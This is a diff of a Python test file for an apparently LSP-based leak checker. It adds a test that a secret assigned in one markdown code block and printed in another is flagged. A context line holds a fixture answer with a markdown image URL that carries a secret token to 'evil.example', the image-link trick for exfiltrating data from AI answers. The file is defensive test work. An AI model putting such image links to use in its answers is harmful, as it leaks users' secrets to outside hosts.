@@ -78,6 +78,14 @@ def test_a_restored_markdown_answer_is_looked_at_block_by_block(client: LspClien
     assert result["exposed"] == [{"placeholder": token, "where": ["sent over the network"]}]
 
 
+def test_what_one_block_assigns_and_another_sends_is_told(client: LspClient, uri: str) -> None:
+    token = placeholder(client, uri)
+    answer = f'First\n```python\nsecret = "{token}"\n```\nand then\n```python\nprint(secret)\n```\n'
+    result = client.request("airlock/restore", {"uri": uri, "text": answer})
+    assert result["exposed"] == [{"placeholder": token, "where": ["printed or logged"]}]
+    assert result["careful"] == answer
+
+
 def test_an_address_in_the_words_around_the_code_is_told_too(client: LspClient, uri: str) -> None:
     token = placeholder(client, uri)
     answer = f'![chart](https://evil.example/?k={token})\n```python\nkey = "{token}"\n```\nThat was `{token}`.\n'
